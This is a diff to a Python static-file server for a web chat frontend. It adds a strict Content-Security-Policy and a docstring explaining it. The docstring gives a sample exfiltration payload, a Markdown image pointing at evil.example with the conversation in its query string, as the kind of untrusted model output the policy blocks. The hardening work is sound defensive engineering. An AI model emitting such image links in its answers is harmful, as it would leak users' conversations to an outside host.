@@ -2,6 +2,13 @@
 
 index.html names the current hashed bundles, so it is always revalidated (no-cache); the hashed
 files under assets/ never change under their name and are cached for a year (immutable).
+
+Every file goes with a Content-Security-Policy: the page runs only its own scripts and loads
+images only from this server (its uploads), data: and blob: URLs (the user's own attachments),
+and talks to no other server. A model's answer is untrusted Markdown: an answer made to show
+`![](https://evil.example/?q=the+conversation)` must not send the conversation away, and no
+remote script may run in the page. Inline styles stay allowed (KaTeX sets them; they run no
+code and load nothing: url() in a style is held to img-src and font-src).
 """
 
 from __future__ import annotations
@@ -17,6 +24,21 @@ log = logging.getLogger(__name__)
 
 UI_DIR = Path(__file__).resolve().parents[3] / "frontend" / "dist"
 IMMUTABLE = "public, max-age=31536000, immutable"
+CONTENT_SECURITY_POLICY = "; ".join(
+    [
+        "default-src 'self'",
+        "script-src 'self'",
+        "style-src 'self' 'unsafe-inline'",
+        "img-src 'self' data: blob:",
+        "font-src 'self' data:",
+        "media-src 'self' data: blob:",
+        "connect-src 'self'",
+        "object-src 'none'",
+        "base-uri 'none'",
+        "form-action 'self'",
+        "frame-ancestors 'self'",
+    ]
+)
 
 
 class UIFiles(StaticFiles):
@@ -27,6 +49,7 @@ class UIFiles(StaticFiles):
         if response.status_code < 400:
             hashed = path.startswith("assets/")
             response.headers["Cache-Control"] = IMMUTABLE if hashed else "no-cache"
+        response.headers["Content-Security-Policy"] = CONTENT_SECURITY_POLICY
         return response
 
 
